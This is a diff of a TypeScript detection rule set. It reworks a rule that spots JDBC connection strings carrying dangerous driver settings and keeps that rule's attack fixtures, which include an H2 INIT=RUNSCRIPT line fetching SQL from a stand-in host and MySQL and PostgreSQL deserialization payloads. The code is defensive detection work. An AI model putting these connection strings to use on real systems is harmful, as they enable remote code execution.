@@ -1,6 +1,33 @@
 import { CHAR } from '../features.ts'
-import { pattern, type Rule } from '../rule.ts'
+import { foundWithin } from '../lex/found-within.ts'
+import type { Reading } from '../reading.ts'
+import { pattern, type Rule, type Span } from '../rule.ts'
 import { WORD } from '../words.ts'
+
+/** Characters of an address behind its driver. */
+const ADDRESS = 316
+const inDatabase = foundWithin({
+  opening: /\bjdbc:h2:/,
+  inside: /init\s{0,2}=|runscript|trace_level/,
+  reach: ADDRESS,
+  barriers: '\\s',
+})
+const inAddress = foundWithin({
+  opening: /\bjdbc:[\w:]{2,16}?:/,
+  inside:
+    /autodeserialize|queryinterceptors|statementinterceptors|socketfactory|sslfactory|loggerfile|allowloadlocalinfile|allowurlinlocalinfile|clientrerouteserverlist|krbjaasfile/,
+  reach: ADDRESS,
+  barriers: '\\s',
+})
+const SETTING = /;init=[^\n]{0,24}runscript|\b(?:autodeserialize=(?:true|yes)|socketfactory=org\.)/
+
+/** A setting of a database address that makes the driver load or run something. */
+function findDriverSetting({ lower }: Reading): Span | undefined {
+  const address = inDatabase(lower) ?? inAddress(lower)
+  if (address !== undefined) return address
+  const setting = SETTING.exec(lower)
+  return setting === null ? undefined : { start: setting.index, end: setting.index + setting[0].length }
+}
 
 /**
  * Types that harm whoever builds an object of a type that the sender names: gadgets of .NET, PHP and
@@ -38,24 +65,26 @@ export const gadgetRules: readonly Rule[] = [
       benign: ['App\\Models\\User', 'guzzle', 'Illuminate\\Http\\Request'],
     },
   ),
-  pattern(
-    'java/jdbc',
-    /\bjdbc:(?:h2:[^\s]{0,300}(?:init\s{0,2}=|runscript|trace_level)|[\w:]{2,16}:[^\s]{0,300}(?:autodeserialize|queryinterceptors|statementinterceptors|socketfactory|sslfactory|loggerfile|allowloadlocalinfile|allowurlinlocalinfile|clientrerouteserverlist|krbjaasfile))|;init=[^\n]{0,24}runscript|\b(?:autodeserialize=(?:true|yes)|socketfactory=org\.)/,
-    {
-      score: 5,
-      words: WORD.java,
-      attacks: [
-        "jdbc:h2:mem:;TRACE_LEVEL_SYSTEM_OUT=3;INIT=RUNSCRIPT FROM 'http://evil.example/x.sql'",
-        'jdbc:mysql://evil.example:3306/test?autoDeserialize=true&queryInterceptors=x',
-        'jdbc:postgresql://x/y?socketFactory=org.springframework.context.support.ClassPathXmlApplicationContext',
-      ],
-      benign: [
-        'jdbc:postgresql://db.example:5432/shop?ssl=true',
-        'jdbc:h2:mem:test;DB_CLOSE_DELAY=-1',
-        'a jdbc driver',
-      ],
-    },
-  ),
+  {
+    id: 'java/jdbc',
+    family: 'java',
+    quotable: false,
+    requires: [[['jdbc:', 'runscript', 'autodeserialize=', 'socketfactory=']]],
+    chars: 0,
+    find: findDriverSetting,
+    score: 5,
+    words: WORD.java,
+    attacks: [
+      "jdbc:h2:mem:;TRACE_LEVEL_SYSTEM_OUT=3;INIT=RUNSCRIPT FROM 'http://evil.example/x.sql'",
+      'jdbc:mysql://evil.example:3306/test?autoDeserialize=true&queryInterceptors=x',
+      'jdbc:postgresql://x/y?socketFactory=org.springframework.context.support.ClassPathXmlApplicationContext',
+    ],
+    benign: [
+      'jdbc:postgresql://db.example:5432/shop?ssl=true',
+      'jdbc:h2:mem:test;DB_CLOSE_DELAY=-1',
+      'a jdbc driver',
+    ],
+  },
   pattern(
     'java/groovy',
     /["'\]]\s{0,2}\.\s{0,2}execute\s{0,2}\(\s{0,2}\)|@(?:grabconfig|grabresolver|asttest|grab)\s{0,2}\(|\{\{(?:groovy|velocity|python)(?:\s[^{}]{0,40})?\}\}|\{\{async\s[^{}]{0,40}\}\}/,
